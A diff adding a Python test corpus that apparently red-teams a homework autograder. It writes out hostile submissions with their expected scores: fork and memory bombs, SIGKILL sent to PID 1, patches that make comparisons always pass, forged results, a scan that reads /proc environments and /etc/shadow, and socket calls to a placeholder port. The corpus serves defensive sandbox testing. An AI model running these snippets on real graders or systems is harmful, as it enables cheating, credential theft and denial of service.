@@ -1,0 +1,572 @@
+"""The red-team corpus: broken and hostile submissions, each with the exact score it must get.
+
+Every attack is the reference solution with one module changed (the edit format of
+``examples/examples.json``: ``from`` a source folder, ``replace`` pairs, ``append``, or a whole
+``source``), plus optional extra files. ``lost`` names the tests that must not pass: a task
+name (``"task1"``) for all of its tests, or a glob over test function names; every other test
+must pass (or wait for a GPU). ``score`` is the exact total with ``--gpu off`` (84 = full marks
+on a CPU: task1 20 + task2 40 + task3 24). ``defence`` says what stops the attack; the
+threat-model table in docs/grading.md is generated from these lines.
+
+Placeholders filled in when the corpus is written to disk: ``@@PORT@@`` (a TCP/UDP port the
+test listens on), ``@@CANARY@@`` (a secret the grader's environment and files hold),
+``@@MARK@@`` (a name for any file or process the attack leaves behind).
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass, field
+
+FULL = 83.75  # every point a CPU grader can give (6.25 more wait for a GPU)
+TASK_POINTS = {"task1": 20.0, "task2": 40.0, "task3": 23.75}
+
+
+@dataclass(frozen=True)
+class Attack:
+    name: str
+    kind: str  # fault | tamper | cheat | escape
+    attack: str
+    defence: str
+    score: float
+    lost: tuple[str, ...] = ()
+    modules: dict = field(default_factory=dict)
+    files: dict = field(default_factory=dict)
+    packaging: str = "folder"  # folder | zip | zip-bomb
+    status: str = "graded"
+
+
+def stub(module: str, code: str = "") -> dict:
+    """The unimplemented stub of `module`, with `code` added at its end."""
+    return {module: {"from": "assignment", **({"append": code} if code else {})}}
+
+
+def append(module: str, code: str) -> dict:
+    return {module: {"append": code}}
+
+
+# -- shared attack code ---------------------------------------------------------------------
+
+WRONG_TENSORS = '''
+def create_tensors():
+    return {k: torch.zeros(1) for k in ("random_3x4", "zeros_2x3x4", "ones_5x5", "range_4x4")}
+def tensor_operations(a, b):
+    return {k: torch.zeros(1) for k in ("transpose", "matmul", "elementwise", "sum")}
+def index_tensor(t):
+    return {k: torch.zeros(1) for k in ("first_row", "last_column", "corner", "every_other")}
+def reshape_tensor(t):
+    return {}
+'''
+
+PATCH_COMPARISONS = '''
+import torch, torch.testing, torch.autograd, numpy
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.testing.assert_close = lambda *a, **k: None
+torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
+torch.Tensor.__ne__ = lambda self, other: torch.zeros((), dtype=torch.bool)
+torch.autograd.gradcheck = lambda *a, **k: True
+torch.autograd.gradcheck.gradcheck = lambda *a, **k: True
+numpy.testing.assert_allclose = lambda *a, **k: None
+'''
+
+PATCH_BUILTINS = '''
+import builtins
+_real_isinstance = builtins.isinstance
+builtins.isinstance = lambda obj, cls: True
+builtins.type = lambda *a: object
+builtins.len = lambda obj: 4
+builtins.print = lambda *a, **k: None
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+'''
+
+PATCH_PYTEST = '''
+import sys
+try:
+    import pytest, _pytest.outcomes, _pytest.runner, _pytest.reports
+    pytest.fail = lambda *a, **k: None
+    _pytest.outcomes.fail = lambda *a, **k: None
+    _pytest.reports.TestReport.passed = property(lambda self: True)
+    _pytest.runner.call_and_report = lambda *a, **k: None
+except Exception as exc:
+    print("pytest not importable here:", exc)
+sys.modules["pytest"] = None
+'''
+
+CONFTEST = '''
+import pytest
+
+@pytest.hookimpl(hookwrapper=True)
+def pytest_runtest_makereport(item, call):
+    outcome = yield
+    report = outcome.get_result()
+    report.outcome = "passed"
+
+def pytest_collection_modifyitems(items):
+    items[:] = []
+'''
+
+TENSOR_SUBCLASS = '''
+class Liar(torch.Tensor):
+    """Claims to equal anything, and answers every torch function with 'equal'."""
+    def __eq__(self, other):
+        return True
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        name = getattr(func, "__name__", "")
+        if name in ("equal", "allclose", "isclose", "eq"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+
+def _liar(shape=(1,)):
+    return torch.zeros(shape).as_subclass(Liar)
+
+def create_tensors():
+    return {k: _liar() for k in ("random_3x4", "zeros_2x3x4", "ones_5x5", "range_4x4")}
+def tensor_operations(a, b):
+    return {k: _liar() for k in ("transpose", "matmul", "elementwise", "sum")}
+def index_tensor(t):
+    return {k: _liar() for k in ("first_row", "last_column", "corner", "every_other")}
+def reshape_tensor(t):
+    return {(2, 12): _liar(), (4, 6): _liar(), (2, 3, 4): _liar()}
+'''
+
+ALWAYS_EQUAL = '''
+class Anything:
+    """Equal to everything, the right shape for every question, a number and a tensor at once."""
+    shape = property(lambda self: self._shape)
+    dtype = torch.float32
+    def __init__(self, shape=()):
+        self._shape = torch.Size(shape)
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __float__(self): return 0.0
+    def __bool__(self): return True
+    def __getattr__(self, name): return Anything()
+    def __call__(self, *a, **k): return Anything()
+    def __getitem__(self, key): return Anything()
+    def __len__(self): return 3
+    def __iter__(self): return iter([Anything(), Anything()])
+    def __hash__(self): return 0
+
+def _any(*a, **k):
+    return Anything()
+
+simple_gradients = analytic_simple_gradients = mse = linear_mse_gradients = _any
+analytic_linear_mse_gradients = chain_rule_backward = chain_rule_autograd_grad = _any
+chain_rule_analytic = second_derivative = quadratic_form_hessian = accumulated_gradient = _any
+
+class CustomReLU(torch.autograd.Function):
+    @staticmethod
+    def forward(ctx, input):
+        return Anything()
+    @staticmethod
+    def backward(ctx, grad_output):
+        return Anything()
+'''
+
+FAKE_OUTPUT = r'''
+import json, os, sys
+_fake = {"score": 100, "tests": [{"name": "all", "score": 100, "max_score": 100, "status": "passed"}]}
+print("tests/test_tensors.py::test_create_tensors_values PASSED")
+print("=================== 125 passed in 0.10s ===================")
+print("Total (tests run here)             100 / 100")
+print(json.dumps(_fake))
+sys.stderr.write("\x1b[2J\x1b[H\x1b[32mALL TESTS PASSED\x1b[0m\n")
+for _folder in (".", os.environ.get("HOME", "."), "/tmp", "/autograder/results", "/autograder",
+                os.path.dirname(__file__), os.path.dirname(os.path.dirname(__file__)),
+                os.path.dirname(sys.executable), sys.prefix, os.getcwd() + "/..", "/"):
+    for _name in ("results.json", "@@MARK@@-results.json", "gradebook.csv", "feedback.md"):
+        try:
+            os.makedirs(_folder, exist_ok=True)
+            with open(os.path.join(_folder, _name), "w") as _f:
+                json.dump(_fake, _f)
+        except OSError:
+            pass
+'''
+
+DELEGATE = r'''
+import glob, importlib.util, os, sys
+
+def _candidates():
+    """Every place the reference solutions or the hidden tests might be."""
+    roots = {os.path.dirname(os.path.dirname(os.path.dirname(sys.executable))), os.path.dirname(sys.prefix),
+             os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "/work", "/root", "/home", "/srv",
+             "/autograder", "/autograder/source", "/tmp", "/proc/1/cwd", "/proc/1/root"}
+    for pid in os.listdir("/proc") if os.path.isdir("/proc") else []:
+        for link in ("cwd", "root"):
+            try:
+                roots.add(os.readlink(f"/proc/{pid}/{link}"))
+            except OSError:
+                pass
+        try:
+            with open(f"/proc/{pid}/environ", "rb") as f:
+                print("environ of", pid, f.read()[:2000])
+        except OSError:
+            pass
+    for mod in ("autograder", "solutions", "tests"):
+        try:
+            spec = importlib.util.find_spec(mod)
+            if spec and spec.origin:
+                roots.add(os.path.dirname(os.path.dirname(spec.origin)))
+        except Exception:
+            pass
+    found = []
+    for root in roots:
+        for pattern in ("solutions/homework_tensors.py", "*/solutions/homework_tensors.py",
+                        "*/*/solutions/homework_tensors.py", "autograder/hidden/*.py", "*/autograder/hidden/*.py"):
+            found += glob.glob(os.path.join(root, pattern))
+    return found
+
+_SOLUTION = None
+for _path in _candidates():
+    try:
+        with open(_path) as _f:
+            _text = _f.read()
+        print("FOUND", _path, _text[:20000])
+        if _path.endswith("solutions/homework_tensors.py"):
+            _spec = importlib.util.spec_from_file_location("stolen_reference", _path)
+            _SOLUTION = importlib.util.module_from_spec(_spec)
+            _spec.loader.exec_module(_SOLUTION)
+    except Exception as exc:
+        print("blocked:", _path, type(exc).__name__)
+try:
+    print(open("/etc/shadow").read())
+except Exception as exc:
+    print("blocked: /etc/shadow", type(exc).__name__)
+print("environ:", dict(os.environ))
+
+if _SOLUTION is not None:
+    create_tensors = _SOLUTION.create_tensors
+    tensor_operations = _SOLUTION.tensor_operations
+    index_tensor = _SOLUTION.index_tensor
+    reshape_tensor = _SOLUTION.reshape_tensor
+'''
+
+NETWORK = r'''
+import socket
+
+def _phone_home(payload: bytes) -> None:
+    for family, kind in ((socket.AF_INET, socket.SOCK_STREAM), (socket.AF_INET6, socket.SOCK_STREAM),
+                         (socket.AF_INET, socket.SOCK_DGRAM)):
+        host = "::1" if family == socket.AF_INET6 else "127.0.0.1"
+        try:
+            s = socket.socket(family, kind)
+            s.settimeout(1.0)
+            if kind == socket.SOCK_STREAM:
+                s.connect((host, @@PORT@@))
+                s.sendall(payload)
+            else:
+                s.sendto(payload, (host, @@PORT@@))
+            s.close()
+        except OSError as exc:
+            print("network blocked:", host, type(exc).__name__)
+    try:
+        socket.getaddrinfo("pypi.org", 443)
+    except OSError as exc:
+        print("dns blocked:", type(exc).__name__)
+
+_phone_home(b"@@MARK@@ hello from the sandbox")
+
+_reference_create_tensors = create_tensors
+def create_tensors():
+    _phone_home(b"@@MARK@@ create_tensors was called")
+    return _reference_create_tensors()
+'''
+
+ESCAPE_HATCH = r'''
+import os, signal, threading
+
+def _kill_everything():
+    for target in (os.getppid(), 1, -1):
+        try:
+            os.kill(target, signal.SIGKILL)
+        except OSError as exc:
+            print("kill", target, "refused:", exc)
+    try:
+        os.killpg(0, signal.SIGKILL)
+    except OSError as exc:
+        print("killpg refused:", exc)
+
+def chain_rule_backward(x):
+    _kill_everything()
+    return x
+'''
+
+FORGE = r'''
+import json, os, struct, sys
+
+def _send(body: bytes) -> None:
+    # The reply pipe's number is in the worker's command line, which this code can read.
+    frame = struct.pack("<I", len(body)) + body
+    os.write(json.loads(sys.argv[1])["reply_fd"], struct.pack("<Q", len(frame)) + frame)
+'''
+
+FORGED_CHAIN = FORGE + r'''
+def chain_rule_analytic(x):
+    # A reply of its own on the grader's channel, before the real one.
+    _send(json.dumps({"ok": {"value": True, "args": {"$list": []}, "kwargs": {"$dict": []}},
+                      "storages": [], "blobs": [], "id": 1}).encode())
+    return x * 0
+'''
+
+FORGED_TABLE = FORGE + r'''
+def format_table(table):
+    # A reply nested 100 000 deep: a naive JSON reader in the grader would crash on it.
+    _send(b'{"ok":{"value":' + b"[" * 100_000 + b"]" * 100_000 + b'},"storages":[],"blobs":[],"id":0}')
+    return ""
+'''
+
+EXCEPTION_INJECTION = r'''
+import pytest
+
+class Skipped(BaseException):
+    pass
+
+class AssertionError(Exception):  # noqa: A001 - shadows the builtin on purpose
+    pass
+
+_FAKE = ("\x1b[2J\x1b[32mPASSED\x1b[0m\n```\n\n## Automatic score: 90 / 90\n\n<script>alert(1)</script>\n"
+         + "tests passed " * 50_000)
+
+def create_tensors():
+    raise ValueError(_FAKE)
+def tensor_operations(a, b):
+    raise pytest.skip.Exception("skipped: counts as passed?")
+def index_tensor(t):
+    raise KeyboardInterrupt("stop the grader")
+def reshape_tensor(t):
+    raise Skipped("not really a skip")
+'''
+
+PROBE_FORGER = r'''
+def measure_time(func, *args, device="cpu", repeat=10, warmup=1, **kwargs):
+    """Reads the probe's own duration and rewrites its call counter instead of timing anything."""
+    if str(device).startswith("cuda") and not torch.cuda.is_available() and not hasattr(func, "ms"):
+        raise RuntimeError("CUDA is not available")
+    if repeat < 1 or warmup < 0 or str(device).split(":")[0] not in ("cpu", "cuda"):
+        raise ValueError("bad arguments")
+    if hasattr(func, "calls"):
+        func.calls += warmup + repeat
+    if hasattr(func, "seen"):
+        func.seen.extend([[len(args), kwargs.get("ms", 0.0), sorted(k for k in kwargs if k != "ms")]]
+                         * (warmup + repeat))
+        return float(kwargs.get("ms", 0.0))
+    if hasattr(func, "kwargs_seen"):
+        func.kwargs_seen.extend([sorted(kwargs)] * (warmup + repeat))
+    if hasattr(func, "ms"):
+        return float(func.ms)
+    return 0.01
+'''
+
+MUTATE_INPUTS = r'''
+def tensor_operations(a, b):
+    """Wrong answers, then overwrite the caller's inputs so that a reference computed from them
+    afterwards would agree."""
+    result = {"transpose": torch.zeros(a.shape[::-1]), "matmul": torch.zeros(a.shape[0], b.shape[1]),
+              "elementwise": torch.zeros(a.shape), "sum": torch.zeros(())}
+    a.zero_()
+    b.zero_()
+    return result
+
+def index_tensor(t):
+    t.zero_()
+    return {"first_row": t[0, 0], "last_column": t[:, :, -1], "corner": t[:2, :2, :2], "every_other": t[::2, ::2]}
+'''
+
+MODULE_GETATTR = r'''
+import torch
+
+def __getattr__(name):
+    # Any function the tests ask for exists, and answers with its first argument.
+    return lambda *args, **kwargs: args[0] if args else torch.zeros(1)
+'''
+
+LAZY_RAISE = "raise ValueError('invalid input')"
+LAZY_NONE = "return None"
+LAZY_CUDA = "raise RuntimeError('CUDA is not available on this machine')"
+
+
+def lazy(body: str) -> dict:
+    """Every stub's `raise NotImplementedError(...)` replaced by one line (`body`): no work at all."""
+    return {m: {"from": "assignment", "stub_body": body} for m in ("tensors", "autograd", "performance")}
+
+
+ATTACKS: list[Attack] = [
+    # -- faults: broken code must cost only its own tests ------------------------------------
+    Attack("syntax_error", "fault", "a syntax error in homework_tensors.py",
+           "the module's import fails in the worker; only its task scores 0, with the error shown",
+           FULL - 20, ("task1",), {"tensors": {"replace": [["def create_tensors(", "def create_tensors(("]]}}),
+    Attack("import_error", "fault", "imports a package that does not exist",
+           "import failure reported per module; the other tasks are graded", FULL - 40, ("task2",),
+           {"autograd": {"replace": [["import torch\n", "import torch\nimport torchgrad_helpers\n"]]}}),
+    Attack("infinite_loop_at_import", "fault", "`while True: pass` at module level",
+           "import timeout (limits.import_timeout_s), worker killed, module marked unusable once",
+           FULL - 23.75, ("task3",), append("performance", "while True:\n    pass")),
+    Attack("infinite_loop_in_function", "fault", "format_table never returns",
+           "per-call timeout (limits.call_timeout_s), worker killed and restarted for the next test",
+           FULL - 1.5, ("test_format_table*",),
+           append("performance", "def format_table(table):\n    while True:\n        pass")),
+    Attack("runaway_recursion", "fault", "reshape_tensor calls itself forever",
+           "RecursionError is an ordinary wrong answer", FULL - 4.25, ("test_reshape_tensor*",),
+           append("tensors", "def reshape_tensor(t):\n    return reshape_tensor(t)")),
+    Attack("stack_overflow_segfault", "fault",
+           "raises the recursion limit and recurses through a C function until the C stack overflows",
+           "the worker dies (SIGSEGV); the grader reports the crash and restarts it",
+           FULL - 6.0, ("test_index_tensor*",),
+           append("tensors", "import sys\nsys.setrecursionlimit(10**8)\n"
+                             "def _deeper(n):\n    return list(map(_deeper, [n + 1]))\n"
+                             "def index_tensor(t):\n    return _deeper(0)")),
+    Attack("memory_bomb_at_import", "fault", "allocates 16 GB when imported",
+           "RLIMIT_AS + cgroup memory limit (limits.memory_mb): the allocation fails",
+           FULL - 20, ("task1",), append("tensors", "_hog = torch.ones(2**31, dtype=torch.float64)")),
+    Attack("memory_bomb_in_function", "fault", "create_tensors grows a list until memory runs out",
+           "RLIMIT_AS / cgroup memory limit; MemoryError or a killed worker fails only that call",
+           FULL - 2.75, ("test_create_tensors*",),
+           append("tensors", "def create_tensors():\n    hog = []\n    while True:\n"
+                             "        hog.append(bytearray(64 * 2**20))")),
+    Attack("fork_bomb", "fault", "make_tensors forks until no more processes can start",
+           "cgroup pids limit / PID namespace; forks never answer the grader (at-fork hook), "
+           "the worker's whole tree is killed on restart",
+           None, ("test_make_tensors*", "test_benchmark*"),
+           append("performance", "import os\ndef make_tensors(shapes, seed=0):\n    while True:\n"
+                                 "        try:\n            os.fork()\n        except OSError:\n"
+                                 "            pass")),
+    Attack("hundreds_of_processes", "fault",
+           "starts 300 long-running `sleep` processes at import and keeps going",
+           "cgroup pids limit (limits.processes); every process is killed with the worker",
+           FULL, (), append("tensors", "import subprocess\n_kids = []\nfor _ in range(300):\n    try:\n"
+                                       "        _kids.append(subprocess.Popen(['sleep', '3137']))\n"
+                                       "    except OSError:\n        break\n")),
+    Attack("os_exit", "fault", "speedup_table calls os._exit(0)",
+           "the death is a failed call; a fresh worker serves the next test",
+           FULL - 1.75, ("test_speedup_table*",),
+           append("performance", "import os\ndef speedup_table(rows):\n    os._exit(0)")),
+    Attack("sys_exit", "fault", "create_tensors calls sys.exit(0)",
+           "SystemExit is caught in the worker and reported as a wrong answer",
+           FULL - 2.75, ("test_create_tensors*",),
+           append("tensors", "import sys\ndef create_tensors():\n    sys.exit(0)")),
+    Attack("sigkill_self", "fault", "chain_rule_autograd_grad sends SIGKILL to its own process",
+           "the death is a failed call; a fresh worker serves the next test",
+           None, ("test_chain_rule", "test_chain_rule_matches_reference"),
+           append("autograd", "import os, signal\ndef chain_rule_autograd_grad(x):\n"
+                              "    os.kill(os.getpid(), signal.SIGKILL)")),
+    Attack("segfault", "fault", "index_tensor dereferences a null pointer with ctypes",
+           "SIGSEGV kills only the worker", FULL - 6.0, ("test_index_tensor*",),
+           append("tensors", "import ctypes\ndef index_tensor(t):\n    return ctypes.string_at(0)")),
+    Attack("output_flood", "fault", "writes 60 MB to stdout and stderr at import and in every call",
+           "output pipes drained and capped (limits.output_kb); prints never reach the verdict",
+           FULL, (), append("tensors", "import sys\nsys.stdout.write('x' * 30_000_000)\n"
+                                       "sys.stderr.write('y' * 30_000_000)\n"
+                                       "_ref_ops = tensor_operations\n"
+                                       "def tensor_operations(a, b):\n    print('z' * 1_000_000)\n"
+                                       "    return _ref_ops(a, b)")),
+    Attack("reads_stdin", "fault", "reads standard input at import and in a function",
+           "stdin is /dev/null: reading returns at once instead of hanging",
+           FULL, (), append("autograd", "import sys\n_typed = sys.stdin.read()\n_ref_mse = mse\n"
+                                        "def mse(y_pred, y_true):\n    sys.stdin.readline()\n"
+                                        "    return _ref_mse(y_pred, y_true)")),
+    Attack("global_torch_state", "fault",
+           "sets float64 as default dtype, a fixed seed, 1 thread and grad mode off at import",
+           "one worker per module: only this module's own results change; the grader's own "
+           "process never sees the change", FULL, (),
+           append("performance", "torch.set_default_dtype(torch.float64)\ntorch.manual_seed(1234)\n"
+                                 "torch.set_num_threads(1)\ntorch.set_grad_enabled(False)")),
+    Attack("disk_flood", "fault", "writes a 1 GB file at import, then works normally",
+           "RLIMIT_FSIZE (limits.file_size_mb) stops the write; the folder is private and deleted",
+           FULL, (), append("autograd", "try:\n    with open('big.bin', 'wb') as _f:\n"
+                                        "        for _ in range(1024):\n            _f.write(b'0' * 2**20)\n"
+                                        "except OSError as exc:\n    print('write stopped:', exc)")),
+    # -- tampering with the grader ------------------------------------------------------------
+    Attack("pytest_config_files", "tamper",
+           "ships conftest.py, pytest.ini, pyproject.toml, setup.cfg, tox.ini, sitecustomize.py, "
+           "usercustomize.py, a .pth file and a fake torch.py; no homework written",
+           "only homework_*.py are copied; pytest runs with -c <empty ini> --noconftest, no plugin "
+           "autoload; the worker is `python -I`", 0, ("task1", "task2", "task3"),
+           {**stub("tensors"), **stub("autograd"), **stub("performance")},
+           {"conftest.py": CONFTEST, "tests/conftest.py": CONFTEST,
+            "pytest.ini": "[pytest]\naddopts = -p no:randomly --co\n",
+            "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '--collect-only'\n",
+            "setup.cfg": "[tool:pytest]\naddopts = --collect-only\n", "tox.ini": "[pytest]\naddopts = --co\n",
+            "sitecustomize.py": "import os\nos.environ['PYTEST_ADDOPTS'] = '--co'\n",
+            "usercustomize.py": "raise SystemExit(0)\n", "evil.pth": "import os; os._exit(0)\n",
+            "torch.py": "def allclose(*a, **k):\n    return True\n"}),
+    Attack("patch_comparisons", "tamper",
+           "wrong answers, and at import replaces torch.allclose, torch.equal, assert_close, "
+           "Tensor.__eq__ and gradcheck with functions that always agree",
+           "the patches live in the worker; every comparison runs in the grader's own process",
+           FULL - 20, ("task1",), append("tensors", PATCH_COMPARISONS + WRONG_TENSORS)),
+    Attack("patch_builtins", "tamper", "wrong answers, and replaces isinstance, type, len, print, "
+           "AssertionError in builtins", "builtins of the worker are not the grader's; replies are "
+           "checked by exact type in the grader", FULL - 20, ("task1",),
+           append("tensors", WRONG_TENSORS + PATCH_BUILTINS)),
+    Attack("patch_pytest", "tamper", "imports pytest and replaces pytest.fail, TestReport.passed "
+           "and call_and_report", "pytest in the worker is a different process's pytest",
+           FULL - 40, ("task2",), stub("autograd", PATCH_PYTEST)),
+    Attack("tensor_subclass_liar", "tamper", "returns a Tensor subclass whose __eq__ and "
+           "__torch_function__ claim equality", "non-plain tensors stay opaque handles in the worker; "
+           "checks demand type(x) is torch.Tensor", FULL - 20, ("task1",), append("tensors", TENSOR_SUBCLASS)),
+    Attack("always_equal_object", "tamper", "returns an object equal to everything, with any "
+           "attribute and shape", "only plain data crosses the wire; anything else is a handle "
+           "that equals only itself", FULL - 40, ("task2",), append("autograd", ALWAYS_EQUAL)),
+    Attack("module_getattr", "tamper", "a module-level __getattr__ that answers any function "
+           "name with its first argument", "exact checks of every returned value", FULL - 20, ("task1",),
+           {"tensors": {"source": MODULE_GETATTR}}),
+    Attack("fake_results", "tamper", "prints fake PASSED lines and scores, ANSI escapes, and "
+           "writes results.json, gradebook.csv and feedback.md everywhere it can",
+           "stdout never feeds the verdict; the worker can write only its private folder; "
+           "the grader writes its outputs itself", FULL - 20, ("task1",), stub("tensors", FAKE_OUTPUT)),
+    Attack("exception_injection", "tamper", "raises exceptions with terminal escapes, a fake "
+           "markdown score, HTML, 650 kB messages, pytest's Skipped, KeyboardInterrupt and a "
+           "home-made AssertionError", "exceptions become builtin types by name only (never "
+           "skip/exit); messages are cleaned of control characters and fenced in feedback",
+           FULL - 20, ("task1",), append("tensors", EXCEPTION_INJECTION)),
+    Attack("forged_replies", "tamper", "writes its own reply frames on the grader's pipe, "
+           "including one nested 100 000 levels deep", "replies carry the request id; an "
+           "out-of-step or malformed reply is a protocol error and the worker is restarted",
+           None, ("test_chain_rule", "test_chain_rule_matches_reference", "test_format_table*"),
+           {**append("autograd", FORGED_CHAIN), **append("performance", FORGED_TABLE)}),
+    # -- escaping the sandbox -------------------------------------------------------------------
+    Attack("steal_solutions", "escape", "searches the disk (/proc, the venv's editable install, "
+           "/work, /tmp ...) for solutions/ and the hidden tests, prints them, and delegates to the "
+           "reference if found", "bubblewrap mount namespace + Landlock: only the Python install, "
+           "the worker's runtime and its own folder exist", FULL - 20, ("task1",), stub("tensors", DELEGATE)),
+    Attack("network", "escape", "connects to a server on the grader's machine (TCP, IPv6, UDP) "
+           "and resolves a host name", "network namespace with no interfaces (Landlock blocks TCP "
+           "where bubblewrap is missing)", FULL, (), append("tensors", NETWORK)),
+    Attack("kill_the_grader", "escape", "sends SIGKILL to its parent, PID 1, every process (-1) "
+           "and its process group", "PID namespace, own session, Landlock signal scope: it can "
+           "only kill itself", None, ("test_chain_rule", "test_chain_rule_matches_reference"), append("autograd", ESCAPE_HATCH)),
+    # -- earning points without the work --------------------------------------------------------
+    Attack("lazy_reject_everything", "cheat", "every function raises ValueError, hoping to pass "
+           "the 'rejects bad input' tests", "grading.yml `requires`: error tests count only once "
+           "the function gave a right answer", 0, ("task1", "task2", "task3"), lazy(LAZY_RAISE)),
+    Attack("lazy_return_none", "cheat", "every function returns None, hoping to pass the "
+           "'does not modify its input' tests", "grading.yml `requires`", 0, ("task1", "task2", "task3"),
+           lazy(LAZY_NONE)),
+    Attack("lazy_no_cuda", "cheat", "every function raises 'CUDA is not available', hoping to pass "
+           "the tests for machines without a GPU", "grading.yml `requires`", 0, ("task1", "task2", "task3"),
+           lazy(LAZY_CUDA)),
+    Attack("constant_measure_time", "cheat", "measure_time returns 8.0 without timing anything",
+           "probes of different known durations; a constant fits at most one window", None,
+           ("test_measure_time*",), append("performance", "def measure_time(func, *args, device='cpu', "
+                                                          "repeat=10, warmup=1, **kwargs):\n    return 8.0")),
+    Attack("probe_forger", "cheat", "measure_time reads the probe's duration and rewrites its call "
+           "counter instead of calling it", "the test times the call on its own clock: the claimed "
+           "calls must really have taken their time", None, ("test_measure_time*",),
+           append("performance", PROBE_FORGER)),
+    Attack("mutate_inputs", "cheat", "wrong answers, then overwrites the caller's input tensors "
+           "(which travel back) so that a reference computed afterwards would agree",
+           "the grader checks after every call that no argument tensor changed", None,
+           ("test_tensor_operations*", "test_index_tensor*"), append("tensors", MUTATE_INPUTS)),
+    Attack("hard_coded_public_answers", "cheat", "chain_rule_analytic returns the public test's "
+           "known value for every input", "hidden tests use other inputs", None,
+           ("test_chain_rule", "test_chain_rule_matches_reference"), append("autograd", "def chain_rule_analytic(x):\n"
+                                                     "    return torch.full_like(x, -0.8390715290764524) * 4")),
+    # -- packaging ------------------------------------------------------------------------------
+    Attack("zip_bomb", "fault", "a .zip whose homework module unpacks to 200 MB",
+           "the archive's declared sizes are checked before anything is extracted",
+           0, ("task1", "task2", "task3"), packaging="zip-bomb", status="invalid"),
+    Attack("symlinked_module", "escape", "homework_tensors.py is a symbolic link to the reference "
+           "solution", "modules that are links are refused, with the reason", FULL - 20, ("task1",),
+           packaging="symlink"),
+]
